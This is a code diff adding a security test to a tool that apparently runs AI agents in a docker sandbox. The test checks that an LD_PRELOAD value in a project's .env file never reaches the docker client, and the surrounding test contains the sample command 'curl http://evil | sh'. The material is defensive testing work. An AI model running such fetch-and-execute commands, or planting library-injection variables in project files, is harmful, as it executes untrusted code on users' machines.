@@ -419,3 +419,19 @@ def test_a_secret_is_masked_and_a_program_in_its_place_is_shown(project: Project
     assert "curl http://evil | sh" in first.err
     project.write(".env", 'MY_TOKEN=ghp_other\nMY_KEY="curl http://evil | sh"\n')
     assert zeus("trust", "--print").out != first.out
+
+
+def test_what_a_projects_env_file_adds_reaches_no_program_of_the_machine(
+    project: Project, zeus: Zeus, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """LD_PRELOAD in a .env would make the docker client execute the project's code."""
+    docker = project.folder.parent / "bin/docker"
+    docker.parent.mkdir()
+    docker.write_text('#!/bin/sh\necho "${LD_PRELOAD-unset}" > "$HOME/seen"\nexit 1\n')
+    docker.chmod(0o755)
+    Path(os.environ["HOME"]).mkdir()
+    monkeypatch.setenv("PATH", f"{docker.parent}:{os.environ['PATH']}")
+    project.write(".env", "LD_PRELOAD=./evil.so\n")
+    project.write("zeus.yaml", "version: 1\nmodel: gpt-4o\ntools: [{sandbox: {backend: docker}}]\n")
+    assert zeus("plan").exit_code == 0
+    assert (Path(os.environ["HOME"]) / "seen").read_text() == "unset\n"
